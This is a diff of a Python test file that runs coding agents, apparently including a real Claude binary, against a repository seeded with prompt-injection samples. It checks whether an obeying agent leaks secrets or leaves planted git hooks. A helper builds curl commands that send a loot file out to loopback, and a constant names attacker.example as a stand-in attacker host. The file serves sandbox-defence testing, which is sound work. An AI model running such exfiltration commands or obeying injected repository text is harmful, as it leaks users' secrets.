@@ -25,7 +25,7 @@ from tests.attacks.code_ipi import (
     samples,
 )
 from tests.attacks.conftest import ENGINES
-from tests.attacks.stage import Stage, repository_state, state_of
+from tests.attacks.stage import AttackedHost, repository_state, state_of
 from tests.support.fake_models import FakeModels
 from tests.support.frames import LauncherClient
 from tests.support.real_claude import claude_binary
@@ -37,7 +37,7 @@ STRANGER = "attacker.example"
 
 
 @dataclass(frozen=True)
-class Obeyed:
+class InjectionResult:
     """A task that fell for every sample. `told` is all that left the sandbox by what it said."""
 
     engine: str
@@ -50,7 +50,7 @@ class Obeyed:
 
 
 @pytest.fixture(scope="module")
-def victim(stage: Stage) -> Path:
+def victim(stage: AttackedHost) -> Path:
     """A repository of all samples; beside it lies what they ask for."""
     repository = make_repository(stage.root / "injected" / "repo")
     for sample in SAMPLES:
@@ -67,7 +67,7 @@ def victim(stage: Stage) -> Path:
 
 
 @pytest.fixture(scope="module", params=ENGINES)
-def fell(request: pytest.FixtureRequest, stage: Stage, victim: Path) -> Obeyed:
+def fell(request: pytest.FixtureRequest, stage: AttackedHost, victim: Path) -> InjectionResult:
     """Claude's real program with a model that obeys, in bubblewrap; elsewhere the same commands."""
     engine: str = request.param
     stage.forget_hits()
@@ -78,10 +78,10 @@ def fell(request: pytest.FixtureRequest, stage: Stage, victim: Path) -> Obeyed:
     )
     task, told = played
     after = (repository_state(victim), state_of(stage.home))
-    return Obeyed(engine, task, victim, told, before, after, stage.hits())
+    return InjectionResult(engine, task, victim, told, before, after, stage.hits())
 
 
-def leaving(stage: Stage) -> str:
+def leaving(stage: AttackedHost) -> str:
     """What was found is sent away: to the host's loopback, to a stranger, by either way."""
     send = f"curl -s -m 2 --data-binary @{LOOT}"
     places = [f"--noproxy '*' http://127.0.0.1:{stage.port}/", f"http://127.0.0.1:{stage.port}/"]
@@ -89,7 +89,7 @@ def leaving(stage: Stage) -> str:
     return "\n".join([*(f'{send} {place}; echo "sent: $?"' for place in places), f"cat {LOOT}"])
 
 
-def claude(stage: Stage, repository: Path, issues: str) -> tuple[dict[str, Any], str]:
+def claude(stage: AttackedHost, repository: Path, issues: str) -> tuple[dict[str, Any], str]:
     folder = stage.root / "claude-only"
     folder.mkdir()
     (folder / "claude").symlink_to(claude_binary())
@@ -112,7 +112,7 @@ def claude(stage: Stage, repository: Path, issues: str) -> tuple[dict[str, Any],
     return task, said + stage.log(task, "work")
 
 
-def scripted(stage: Stage, repository: Path, engine: str) -> tuple[dict[str, Any], str]:
+def scripted(stage: AttackedHost, repository: Path, engine: str) -> tuple[dict[str, Any], str]:
     lines = [PRELUDE]
     for sample in SAMPLES:
         lines.append(f"cd {FOLDER}/{sample.name}")
@@ -130,7 +130,7 @@ def scripted(stage: Stage, repository: Path, engine: str) -> tuple[dict[str, Any
 
 
 def created(
-    stage: Stage, repository: Path, env: dict[str, str], agent: str, engine: str, about: str,
+    stage: AttackedHost, repository: Path, env: dict[str, str], agent: str, engine: str, about: str,
     **more: str,
 ) -> dict[str, Any]:  # fmt: skip
     with LauncherClient(stage.data, repository, env) as client:
@@ -159,7 +159,9 @@ def test_every_sample_is_obeyed_by_the_model(sample: Sample) -> None:
 
 @pytest.mark.real_agent
 @pytest.mark.known_escape(16)
-def test_an_agent_that_obeys_finds_no_secret_and_sends_nothing(fell: Obeyed, stage: Stage) -> None:
+def test_an_agent_that_obeys_finds_no_secret_and_sends_nothing(
+    fell: InjectionResult, stage: AttackedHost
+) -> None:
     secrets = [*SECRETS.values(), IN_FILE]
     assert [secret for secret in secrets if secret in fell.told] == []
     assert stage.canaries.found_in(fell.told) == []
@@ -170,7 +172,7 @@ def test_an_agent_that_obeys_finds_no_secret_and_sends_nothing(fell: Obeyed, sta
 
 @pytest.mark.real_agent
 @pytest.mark.known_escape(16)
-def test_its_commands_did_run(fell: Obeyed) -> None:
+def test_its_commands_did_run(fell: InjectionResult) -> None:
     for sample in SAMPLES:
         for command in obeyed(sample.said):
             marker = command.partition("CANARY_EXEC_")[2][:12]
@@ -179,7 +181,7 @@ def test_its_commands_did_run(fell: Obeyed) -> None:
 
 @pytest.mark.real_agent
 @pytest.mark.known_escape(16)
-def test_only_the_branch_has_what_it_planted_and_it_is_shown_first(fell: Obeyed) -> None:
+def test_only_the_branch_has_what_it_planted_and_it_is_shown_first(fell: InjectionResult) -> None:
     assert fell.before == fell.after
     assert not (fell.repository / ".git/hooks/pre-commit").exists()
     changed = fell.task["changes"]["paths"]
